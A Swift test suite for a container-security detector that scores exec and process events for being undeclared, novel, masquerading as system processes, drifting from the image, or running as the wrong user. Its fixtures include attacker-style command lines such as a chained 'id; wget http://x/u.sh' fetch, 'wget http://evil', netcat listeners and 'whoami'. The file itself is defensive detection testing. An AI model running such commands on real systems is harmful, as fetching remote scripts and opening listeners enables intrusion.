import Events
import Foundation
import Testing

@testable import Context

@Suite("Programs of containers")
struct ProgramKnowledgeTests {
    @Test("an exec names its programs, and what the image declares of them")
    func exec() {
        let context = Fixture.context([Programs.inspect()])
        let health = Programs.fields(context, Programs.exec("/bin/sh -c " + Programs.check, at: 10))
        #expect(health["Exec.Declared"] == "true")
        #expect(health["Exec.Programs"] == "sh,wget,exit")
        #expect(health["Exec.Program"] == "wget")
        #expect(health["Program.Declared"] == "healthcheck")
        #expect(health["Program.Novelty"] == "0")
        let attack = Programs.fields(
            context, Programs.exec("sh -c id; wget http://x/u.sh", at: 10, verb: "exec_create"))
        #expect(attack["Exec.Declared"] == "false")
        #expect(attack["Exec.Program"] == "id")
        #expect(attack["Program.Declared"] == "no")
        #expect(attack["Program.Novelty"] == "50")
        #expect(attack["Exec.Interactive"] == nil)
        #expect(Programs.fields(context, Programs.exec("bash", at: 10))["Exec.Interactive"] == "true")
        #expect(Programs.fields(context, Fixture.docker("exec_die", Programs.shop, at: 10)).isEmpty)
        let wget = Programs.fields(context, Programs.exec("wget http://x/u.sh", at: 10))
        #expect(wget["Program.Declared"] == "no", "the program of the health check, another command")
    }

    @Test("the program of an exec that is not the image's speaks for the line")
    func execDrift() {
        let context = Fixture.context([Programs.inspect()])
        let fields = Programs.fields(context, Programs.exec("sh -c cd /tmp; ./a; /tmp/.cache/kworker 1", at: 10))
        #expect(fields["Program.Path"] == "/tmp/.cache/kworker")
        #expect(fields["Program.Masquerade"] == "true")
        #expect(fields["Program.FromImage"] == "no")
    }

    @Test(
        "a process is declared by the entry point, told by its arguments only where it is a shell",
        arguments: [
            ("app\\shop.exe", "shop.exe --serve", "entrypoint", "0"), ("app\\shop.exe", "", "entrypoint", "0"),
            ("app\\shop.exe", "shop.exe --worker", "entrypoint", "0"),
            ("Windows\\System32\\cmd.exe", "cmd /c whoami", "no", "50"),
        ])
    func entrypoint(path: String, commandLine: String, declared: String, novelty: String) {
        let view = Programs.start(path, pid: 100, at: 60, commandLine: commandLine)
        let fields = Programs.fields(Fixture.context(Programs.windows() + [view]), view)
        #expect(fields["Program.Declared"] == declared)
        #expect(fields["Program.Novelty"] == novelty)
    }

    @Test("a shell of the entry point is declared with its line alone")
    func shellEntrypoint() throws {
        var declaration = ProgramDeclaration()
        declaration.apply(
            [
                FieldValue(name: "Path", value: "sh"), FieldValue(name: "Args", value: "-c"),
                FieldValue(name: "Args", value: "while true; do wget -q http://shop:8080 >/dev/null; sleep 3; done"),
            ], isImage: false, at: Fixture.seconds(0))
        let declared = DeclaredPrograms(declaration, nil, windows: false)
        func reason(_ program: String, _ line: String) throws -> DeclaredPrograms.Reason? {
            declared.reason(for: try #require(ProgramPath(program)), commandLine: line)
        }
        let line = "while true; do wget -q http://shop:8080 >/dev/null; sleep 3; done"
        #expect(try reason("/bin/sh", "sh -c \"\(line)\"") == .entrypoint)
        #expect(try reason("/bin/sh", "sh -c \(line)") == .entrypoint)
        #expect(try reason("/bin/sh", "sh -c id") == nil)
        #expect(try reason("/bin/sh", "sh -c \"\(line); id\"") == nil)
        #expect(try reason("/usr/bin/wget", "wget -q http://shop:8080") == .entrypoint)
        #expect(try reason("/usr/bin/wget", "wget -q http://evil") == nil)
        #expect(try reason("/bin/nc", "nc -l") == nil)
    }

    @Test("what the engine was told to run is explained by it, at that time")
    func explained() {
        let start = Programs.start("Windows\\System32\\whoami.exe", pid: 100, at: 61)
        let late = Programs.start("Windows\\System32\\whoami.exe", pid: 104, at: 161)
        let exec = Fixture.docker("exec_start: cmd /c whoami", Fixture.web, at: 60)
        let context = Fixture.context(Programs.windows() + [start, late, exec])
        #expect(Programs.fields(context, start)["Program.Declared"] == "exec")
        #expect(Programs.fields(context, start)["Program.Novelty"] == "25")
        #expect(Programs.fields(context, late)["Program.Declared"] == "no")
    }

    @Test("a shell that is opened by exec is not declared by an entry point that is a shell")
    func openedShell() {
        var inspect = Programs.inspect()
        inspect.fields = inspect.fields.filter { $0.name != "Args" && $0.name != "Config.Cmd" }.map {
            FieldValue(name: $0.name, value: $0.name == "Path" ? "bash" : $0.value)
        }
        let exec = Programs.exec("bash", at: 60)
        let opened = linux("/bin/bash", "bash", at: 61)
        let entry = linux("/bin/bash", "bash", at: 1)
        let context = Fixture.context([inspect, exec, opened, entry])
        #expect(Programs.fields(context, exec)["Program.Declared"] == "no")
        #expect(Programs.fields(context, opened)["Program.Declared"] == "exec")
        #expect(Programs.fields(context, entry)["Program.Declared"] == "entrypoint")
    }

    @Test("novelty: neutral without history, high after it, low when other containers run it")
    func novelty() {
        let usual = (0..<6).map { Programs.start("app\\tool.exe", pid: 100 + $0 * 4, at: Int64($0) * 30 + 10) }
        let early = Programs.start("app\\new.exe", pid: 200, at: 300)
        let late = Programs.start("app\\other.exe", pid: 204, at: 900)
        let again = Programs.start("app\\tool.exe", pid: 208, at: 901)
        let context = Fixture.context(Programs.windows() + usual + [early, late, again])
        #expect(Programs.fields(context, early)["Program.Novelty"] == "50")
        #expect(Programs.fields(context, late)["Program.Novelty"] == "100")
        #expect(Programs.fields(context, again)["Program.Novelty"] == "15")
        #expect(Programs.fields(context, again)["Program.InContainer"] == "6")
        #expect(Programs.fields(context, again)["Program.FirstSeen"] == "2023-11-14T22:13:30.000000000Z")
        #expect(context.derived.map(\.finding) == ["novel-program"])
        #expect(context.derived.first?.fields.contains(FactField("Program.Path", "c:\\app\\other.exe")) == true)
    }

    @Test("sightings in other containers of the image count, by the image's id")
    func image() {
        let exec = (0..<4).map { Programs.exec("redis-cli ping", Programs.shopTwo, at: Int64($0) * 20) }
        let view = Programs.exec("redis-cli ping", at: 700)
        let context = Fixture.context([Programs.inspect(), Programs.inspect(Programs.shopTwo)] + exec + [view])
        let fields = Programs.fields(context, view)
        #expect(fields["Program.InImage"] == "4")
        #expect(fields["Program.InContainer"] == "0")
        #expect(fields["Program.Novelty"] == "12")
        #expect(fields["Exec.Declared"] == "false")
        let known = Fixture.context(
            [Programs.inspect()] + exec
                + exec.map { view in
                    var other = view
                    other.time.nanoseconds += 300_000_000_000
                    return other
                })
        #expect(Programs.fields(known, view)["Exec.Declared"] == "true", "the same command eight times, long before")
    }

    @Test("sightings age")
    func ageing() {
        let day: Int64 = 86_400
        let old = (0..<5).map { Programs.exec("redis-cli ping", at: Int64($0) * 20) }
        let context = Fixture.context([Programs.inspect()] + old)
        let within = Programs.fields(context, Programs.exec("redis-cli ping", at: 29 * day))
        let after = Programs.fields(context, Programs.exec("redis-cli ping", at: 31 * day))
        #expect(within["Program.InContainer"] == "5")
        #expect(after["Program.InContainer"] == "0")
        #expect(after["Program.Novelty"] == "50")
    }

    @Test("a program that a listing of changes names, or that was written before, is not the image's")
    func drift() {
        let tool = Programs.start("app\\tool.exe", pid: 100, at: 60)
        let before = Programs.start("app\\tool.exe", pid: 104, at: 20)
        func written(_ path: String) -> EventView {
            Fixture.windows(
                at: 40, kind: .fileWrite, [.targetFilename: Fixture.disk(Fixture.silo, path), .image: "C:\\a.exe"])
        }
        var context = Fixture.context(Programs.windows() + [tool, before])
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "unknown")
        #expect(context.derived.isEmpty)
        context = Fixture.context(Programs.windows() + [tool, before, written("App\\TOOL.exe"), written("app\\x.txt")])
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "no")
        #expect(Programs.fields(context, before)["Program.FromImage"] == "unknown")
        context = Fixture.context(Programs.windows() + [tool, Programs.diff("A", "C:\\app\\tool.exe", Fixture.web)])
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "no")
        #expect(context.derived.map(\.finding) == ["drift"])
        #expect(context.derived.first?.container?.text == Fixture.web)
        context = Fixture.context(Programs.windows() + [tool, Programs.diff("A", "C:\\app\\x.exe", Fixture.web)])
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "yes")
        context = Fixture.context(Programs.windows() + [tool, Programs.diff("D", "C:\\app\\tool.exe", Fixture.web)])
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "unknown")
        let temporary = Programs.start("Windows\\Temp\\a.exe", pid: 108, at: 70)
        #expect(Programs.fields(context, temporary)["Program.FromImage"] == "no")
    }

    @Test(
        "an administrator where the image declares a user",
        arguments: [("ContainerUser", true), ("ContainerAdministrator", false), ("", false), ("svc", true)])
    func user(declared: String, mismatch: Bool) {
        let start = Programs.start("app\\tool.exe", pid: 100, at: 60, user: "User Manager\\ContainerAdministrator")
        let own = Programs.start("app\\tool.exe", pid: 104, at: 60, user: "User Manager\\ContainerUser")
        let context = Fixture.context(Programs.windows() + [Programs.image(user: declared), start, own])
        let fields = Programs.fields(context, start)
        #expect(fields["Program.RunsAs"] == "ContainerAdministrator")
        #expect(fields["Container.UserMismatch"] == (mismatch ? "true" : nil))
        #expect(Programs.fields(context, own)["Container.UserMismatch"] == nil)
        #expect(context.derived.map(\.finding) == (mismatch ? ["user-mismatch"] : []))
    }

    /// A process creation that a sensor tells, with the container.
    private func linux(_ image: String, _ commandLine: String, at time: Int64, user: String = "") -> EventView {
        EventView(
            kind: .linuxProcess, time: Fixture.seconds(time), host: "node",
            values: [
                EventView.Value(.image, image), EventView.Value(.commandLine, commandLine),
                EventView.Value(.containerID, Programs.shop), EventView.Value(.user, user),
            ], origin: Origin(product: "linux", category: "process_creation", service: "falco"))
    }

    @Test("processes of Linux containers: applets by the name they are called by, history, users, files made before")
    func linuxProcesses() {
        let usual = (0..<8).map { linux("/bin/busybox", "wget -q http://x", at: Int64($0) * 100) }
        let novel = linux("/bin/busybox", "nc -l -p 1", at: 900, user: "root")
        let again = linux("/bin/busybox", "wget -q http://x", at: 901, user: "www")
        let tool = linux("/opt/tool", "tool", at: 902)
        let made = EventView(
            kind: .linuxRecord, time: Fixture.seconds(890), host: "node",
            values: [EventView.Value(.targetFilename, "/opt/tool"), EventView.Value(.containerID, Programs.shop)],
            origin: Origin(product: "linux", category: "file_event", service: "falco"))
        let runtime = linux("/usr/bin/runc", "runc init", at: 1, user: "root")
        let context = Fixture.context([Programs.inspect(user: "www"), runtime, novel, again, tool, made] + usual)
        #expect(Programs.fields(context, novel)["Program.Name"] == "nc")
        #expect(Programs.fields(context, novel)["Program.Novelty"] == "100")
        #expect(Programs.fields(context, novel)["Container.UserMismatch"] == "true")
        #expect(Programs.fields(context, again)["Program.Novelty"] == "12")
        #expect(Programs.fields(context, again)["Container.UserMismatch"] == nil)
        #expect(Programs.fields(context, tool)["Program.FromImage"] == "no")
        #expect(
            context.derived.map(\.finding) == ["novel-program", "user-mismatch", "drift", "novel-program"],
            "\(context.derived)")
    }

    @Test("a container that was made to run a program under a system's name")
    func entry() {
        var view = Programs.inspect()
        #expect(Programs.fields(Fixture.context([view]), view)["Program.Masquerade"] == nil)
        #expect(Programs.fields(Fixture.context([view]), view)["Program.Name"] == "httpd")
        view.fields = view.fields.map {
            FieldValue(name: $0.name, value: $0.name == "Path" ? "/tmp/.x/kworker" : $0.value)
        }
        let fields = Programs.fields(Fixture.context([view]), view)
        #expect(fields["Program.Masquerade"] == "true")
        #expect(fields["Program.InTemporaryFolder"] == "true")
    }

    @Test("events of no container and records that run nothing get no fields")
    func nothing() {
        let context = Fixture.context(Programs.windows())
        #expect(Programs.fields(context, Fixture.start("C:\\a.exe", pid: 8, at: 5)).isEmpty)
        #expect(Programs.fields(context, Fixture.docker("start", Fixture.web, at: 5)).isEmpty)
    }
}
